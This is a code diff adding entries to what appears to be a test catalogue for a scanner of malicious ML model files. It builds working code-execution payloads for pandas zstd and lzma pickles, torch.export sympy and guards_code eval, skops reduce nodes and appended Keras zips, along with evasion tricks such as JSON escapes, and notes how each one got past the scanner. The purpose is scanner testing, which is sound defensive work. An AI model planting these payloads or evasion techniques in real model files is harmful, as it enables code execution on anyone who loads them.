@@ -1526,6 +1526,245 @@ def idlelib_fetch_completions(canary: Canary, _d: Path) -> bytes:
     )
 
 
+# -- third review: loaders that undo zstd, torch.export programs that carry Python ----------
+
+
+def pandas_read_pickle(path: Path) -> object:
+    """``pandas.read_pickle``: decompression inferred from the extension (.zst here)."""
+    import pandas as pd
+
+    return pd.read_pickle(path)
+
+
+def zstd_pickle(framing: str) -> Payload:
+    """The evil pickle as zstd, as pandas' ``to_pickle("x.pkl.zst")`` would have written it.
+
+    ``framing`` varies what a reader must get past: ``plain`` (one frame with its content
+    size), ``skippable`` (a skippable frame first, which zstd readers step over) and
+    ``streamed`` (a frame written by a streaming compressor, no content size).
+    """
+
+    def payload(canary: Canary, _d: Path) -> bytes:
+        frame = zstd_frame(_evil_pickle(canary), sized=framing != "streamed")
+        if framing == "skippable":
+            return b"\x50\x2a\x4d\x18" + struct.pack("<I", 6) + b"tw-pad" + frame
+        return frame
+
+    return payload
+
+
+def zstd_frame(data: bytes, *, sized: bool = True) -> bytes:
+    """One zstd frame of raw (stored) blocks: valid zstd, written without the zstandard package.
+
+    ``sized`` declares the content size in a single-segment header (what one-shot
+    compressors write); otherwise a window descriptor stands in (what streaming ones write).
+    """
+    # Single segment with a 4-byte content size, or no size and a 128 KiB window.
+    header = b"\xa0" + struct.pack("<I", len(data)) if sized else b"\x00" + bytes([7 << 3])
+    blocks = bytearray()
+    step = 1 << 17
+    chunks = [data[i : i + step] for i in range(0, len(data), step)] or [b""]
+    for index, chunk in enumerate(chunks):
+        last = int(index == len(chunks) - 1)
+        blocks += (len(chunk) << 3 | last).to_bytes(3, "little") + chunk  # raw block
+    return b"\x28\xb5\x2f\xfd" + header + bytes(blocks)
+
+
+def torch_export_load(path: Path) -> object:
+    """``torch.export.load`` on a ``.pt2`` archive."""
+    import torch
+
+    return torch.export.load(path)
+
+
+def torch_export_load_and_run(path: Path) -> object:
+    """``torch.export.load(path).module()(x)``: what serving an exported program does."""
+    import torch
+
+    return torch.export.load(path).module()(torch.ones(5, 3))
+
+
+_EXPORT_SYMBOL = "Symbol('s77', positive=True, integer=True)"
+
+
+def _exported_program_bytes() -> bytes:
+    """``torch.export.save`` of ``x * 2`` with a dynamic first dimension (one symbol)."""
+    import torch
+
+    class Double(torch.nn.Module):
+        def forward(self, x: torch.Tensor) -> torch.Tensor:
+            return x * 2
+
+    dim = torch.export.Dim("n", min=2, max=64)
+    program = torch.export.export(Double(), (torch.ones(4, 3),), dynamic_shapes={"x": {0: dim}})
+    out = io.BytesIO()
+    torch.export.save(program, out)
+    return out.getvalue()
+
+
+def _edit_export_program(data: bytes, edit: Callable[[dict[str, Any]], None]) -> bytes:
+    """Rewrite every ``models/*.json`` program of a ``.pt2`` archive with ``edit``."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(data)) as zin, zipfile.ZipFile(out, "w") as zout:
+        for info in zin.infolist():
+            body = zin.read(info.filename)
+            if "/models/" in info.filename and info.filename.endswith(".json"):
+                program = json.loads(body)
+                edit(program)
+                body = json.dumps(program, ensure_ascii=False).encode()
+            zout.writestr(info, body)
+    return out.getvalue()
+
+
+def _replace_strings(value: Any, old: str, new: str) -> Any:
+    if isinstance(value, dict):
+        return {k: _replace_strings(v, old, new) for k, v in value.items()}
+    if isinstance(value, list):
+        return [_replace_strings(v, old, new) for v in value]
+    return new if value == old else value
+
+
+def export_sym_expr(wrap: str) -> Payload:
+    """A ``.pt2`` whose symbolic size expression is Python: ``sympy.sympify`` evaluates it.
+
+    torch.export.load parses every ``expr_str`` of the program with ``sympy.sympify``,
+    which runs ``eval`` on the text. ``wrap`` places the payload: ``call`` (the expression
+    itself calls ``__import__``), ``attr`` (reaches ``__import__`` through a sympy
+    function's ``__globals__``) and ``escaped`` (the same call, with JSON
+    ``\\u`` escapes in model.json, so the raw bytes never spell it).
+    """
+
+    def payload(canary: Canary, _d: Path) -> bytes:
+        command = canary.shell_command.replace("'", "\\'")
+        if wrap == "attr":
+            reach = "Symbol.__new__.__globals__['__builtins__']['__import__']"
+            code = f"{reach}('os').system('{command}')"
+        else:
+            code = f"__import__('os').system('{command}')"
+        expr = f"(({code}) and {_EXPORT_SYMBOL}) or {_EXPORT_SYMBOL}"
+
+        def edit(program: dict[str, Any]) -> None:
+            program.update(_replace_strings(program, _EXPORT_SYMBOL, expr))
+
+        data = _edit_export_program(_exported_program_bytes(), edit)
+        if wrap != "escaped":
+            return data
+        return _escape_json_member(data, "__import__")
+
+    return payload
+
+
+def _escape_json_member(data: bytes, word: str) -> bytes:
+    escaped = "".join(f"\\u{ord(c):04x}" for c in word).encode()
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(data)) as zin, zipfile.ZipFile(out, "w") as zout:
+        for info in zin.infolist():
+            body = zin.read(info.filename)
+            if info.filename.endswith(".json"):
+                body = body.replace(word.encode(), escaped)
+            zout.writestr(info, body)
+    return out.getvalue()
+
+
+def export_guards_code(canary: Canary, _d: Path) -> bytes:
+    """A ``.pt2`` whose ``guards_code`` is Python: ``.module()`` compiles it into the forward."""
+    command = canary.shell_command.replace("'", "\\'")
+
+    def edit(program: dict[str, Any]) -> None:
+        program["guards_code"] = [f"__import__('os').system('{command}') == 0"]
+
+    return _edit_export_program(_exported_program_bytes(), edit)
+
+
+def skops_load_trusting_listed(path: Path) -> object:
+    """``skops.io.load(path, trusted=get_untrusted_types(file=path))``: skops' own workflow."""
+    import skops.io as sio
+
+    return sio.load(path, trusted=sio.get_untrusted_types(file=path))
+
+
+def _skops_json(value: object) -> dict[str, object]:
+    return {
+        "__class__": type(value).__name__,
+        "__module__": "builtins",
+        "__loader__": "JsonNode",
+        "content": json.dumps(value),
+        "is_json": True,
+    }
+
+
+def skops_reduce(module: str, name: str, arg: Callable[[Canary], str], nested: bool) -> Payload:
+    """A ``.skops`` whose schema calls ``module.name(arg)`` (ConstructorFromReduceNode).
+
+    ``nested`` hides the node as an item of a list node, with its ``__loader__`` key
+    spelled with a JSON escape, so only a reader that parses the schema sees it.
+    """
+
+    def payload(canary: Canary, _d: Path) -> bytes:
+        call_node = {
+            "__class__": name,
+            "__module__": module,
+            "__loader__": "ConstructorFromReduceNode",
+            "content": {
+                "__class__": "tuple",
+                "__module__": "builtins",
+                "__loader__": "TupleNode",
+                "content": [_skops_json(arg(canary))],
+            },
+        }
+        schema: dict[str, object] = call_node
+        if nested:
+            schema = {
+                "__class__": "list",
+                "__module__": "builtins",
+                "__loader__": "ListNode",
+                "content": [_skops_json([0.5, 0.25]), call_node],
+            }
+        text = json.dumps({**schema, "protocol": 2}, indent=2)
+        if nested:
+            text = text.replace(
+                '"__loader__": "ConstructorFromReduceNode"',
+                '"__lo\\u0061der__": "ConstructorFromReduceNode"',
+            )
+        out = io.BytesIO()
+        with zipfile.ZipFile(out, "w") as zf:
+            zf.writestr("schema.json", text)
+        return out.getvalue()
+
+    return payload
+
+
+def lzma_alone(**options: int) -> Payload:
+    """The evil pickle as a ``.lzma`` (alone) stream with LZMA1 ``options``.
+
+    joblib picks its lzma reader from the two bytes ``]\\x00`` and pandas' ``.xz`` reader
+    (``lzma.open``, FORMAT_AUTO) takes any alone header; neither limits the dictionary size
+    the header asks for. The scanner only knew the header Python writes by default.
+    """
+
+    def payload(canary: Canary, _d: Path) -> bytes:
+        filters = [{"id": lzma.FILTER_LZMA1, **options}]
+        return lzma.compress(_evil_pickle(canary), format=lzma.FORMAT_ALONE, filters=filters)
+
+    return payload
+
+
+def keras_lambda_behind(prefix: bytes) -> Callable[[Path, Canary], Path]:
+    """The bare Lambda ``.keras`` zip with a complete file of another format before it.
+
+    zipfile finds the archive by its end record, so Keras loads it; the scanner, having
+    recognised the prefix's format, never looked for a zip behind it.
+    """
+
+    def build(directory: Path, canary: Canary) -> Path:
+        inner = keras_lambda_bare()(directory / "inner", canary)
+        out = directory / "model.keras"
+        out.write_bytes(prefix + inner.read_bytes())
+        return out
+
+    return build
+
+
 # ---------------------------------------------------------------------------------------------
 # The catalogue
 # ---------------------------------------------------------------------------------------------
@@ -2806,6 +3045,140 @@ ATTACKS: tuple[Attack, ...] = (
         _file("model.gguf", gguf_ssti),
         gguf_render_chat_template,
         ("jinja2",),
+        expected=Verdict.UNKNOWN,
+    ),
+    # -- third review: transparent zstd (pandas), torch.export programs ------------------------
+    _a(
+        "pandas-zstd-pickle",
+        "pickle compressed with zstd (pandas read_pickle, .zst)",
+        T,
+        "pandas infers zstd from the extension and unpickles what it decompresses; the "
+        "scanner did not know zstd and read the compressed bytes as data.",
+        _file("model.pkl.zst", zstd_pickle("plain")),
+        pandas_read_pickle,
+        ("pandas", "zstandard"),
+        expected=Verdict.UNKNOWN,
+    ),
+    _a(
+        "pandas-zstd-skippable-frame",
+        "zstd stream that starts with a skippable frame",
+        T,
+        "zstd readers step over skippable frames (magic 0x184D2A5?) before the data frame.",
+        _file("model.pkl.zst", zstd_pickle("skippable")),
+        pandas_read_pickle,
+        ("pandas", "zstandard"),
+        expected=Verdict.UNKNOWN,
+    ),
+    _a(
+        "pandas-zstd-streamed-frame",
+        "zstd frame without a content size (streaming compressor)",
+        T,
+        "A frame written by a streaming compressor declares no size; readers still inflate it.",
+        _file("model.pkl.zst", zstd_pickle("streamed")),
+        pandas_read_pickle,
+        ("pandas", "zstandard"),
+        expected=Verdict.UNKNOWN,
+    ),
+    _a(
+        "torch-export-sympy-expr",
+        "torch.export .pt2 symbolic size evaluated by sympy.sympify",
+        T,
+        "torch.export.load parses each expr_str of model.json with sympy.sympify (eval).",
+        _file("model.pt2", export_sym_expr("call")),
+        torch_export_load,
+        TORCH,
+    ),
+    _a(
+        "torch-export-sympy-expr-dunder",
+        "torch.export .pt2 sympy expression reaching os through __globals__",
+        T,
+        "No builtin name: the expression climbs from sympy's Symbol to __import__.",
+        _file("model.pt2", export_sym_expr("attr")),
+        torch_export_load,
+        TORCH,
+    ),
+    _a(
+        "torch-export-sympy-expr-escaped",
+        "torch.export .pt2 sympy expression spelled with JSON escapes",
+        T,
+        "model.json writes __import__ as \\u escapes: a byte search never sees the name.",
+        _file("model.pt2", export_sym_expr("escaped")),
+        torch_export_load,
+        TORCH,
+    ),
+    _a(
+        "torch-export-guards-code",
+        "torch.export .pt2 guards_code compiled into the module",
+        T,
+        "ExportedProgram.module() exec()s guards_code into the forward's input checks.",
+        _file("model.pt2", export_guards_code),
+        torch_export_load_and_run,
+        TORCH,
+    ),
+    _a(
+        "skops-reduce-posix-system",
+        "skops ConstructorFromReduceNode calling posix.system",
+        "https://skops.readthedocs.io/en/stable/persistence.html",
+        "skops refuses untrusted types, but its workflow trusts what get_untrusted_types "
+        "lists; the schema was not read, so the archive scanned safe.",
+        _file("model.skops", skops_reduce("posix", "system", _sh, nested=False)),
+        skops_load_trusting_listed,
+        ("skops",),
+    ),
+    _a(
+        "skops-reduce-exec-nested-escaped",
+        "skops builtins.exec node inside a list node, __loader__ key escaped",
+        "https://skops.readthedocs.io/en/stable/persistence.html",
+        "The call node is a list item and its loader key is a JSON escape.",
+        _file("model.skops", skops_reduce("builtins", "exec", _pystmt, nested=True)),
+        skops_load_trusting_listed,
+        ("skops",),
+    ),
+    _a(
+        "joblib-lzma-small-dictionary",
+        "lzma alone stream with a 4 KiB dictionary (header 5d 00 10 00 00)",
+        T,
+        "joblib.load reads any stream starting ]\\x00 as lzma; the scanner wanted ]\\x00\\x00.",
+        _file("model.joblib", lzma_alone(dict_size=1 << 12)),
+        joblib_load,
+        ("joblib",),
+    ),
+    _a(
+        "joblib-lzma-huge-dictionary",
+        "lzma alone stream whose header asks for a 1 GiB dictionary",
+        T,
+        "Over the scanner's decoder memory limit, the stream was judged as plain bytes.",
+        _file("model.joblib", lzma_alone(dict_size=1 << 30)),
+        joblib_load,
+        ("joblib",),
+    ),
+    _a(
+        "pandas-lzma-alone-properties",
+        "lzma alone stream with lc=0 (properties byte 0x5a), read as .xz",
+        T,
+        "lzma.open decodes any alone header; only 0x5d (the default) was recognised.",
+        _file("model.pkl.xz", lzma_alone(lc=0, dict_size=1 << 16)),
+        pandas_read_pickle,
+        ("pandas",),
+    ),
+    _a(
+        "keras-lambda-behind-gzip",
+        "Lambda .keras zip appended to a valid gzip stream",
+        T,
+        "The scanner entered the gzip stream and stopped; zipfile reads the zip at the end.",
+        keras_lambda_behind(gzip.compress(b"weights", mtime=0)),
+        keras_load_model,
+        ("keras",),
+        expected=Verdict.UNKNOWN,
+    ),
+    _a(
+        "keras-lambda-behind-pickle",
+        "Lambda .keras zip appended to a plain pickle",
+        T,
+        "A complete pickle first (pickle.load reads only that), then the zip Keras reads.",
+        keras_lambda_behind(pickle.dumps({"weights": [0.5, 0.25]}, protocol=4)),
+        keras_load_model,
+        ("keras",),
         expected=Verdict.UNKNOWN,
     ),
 )
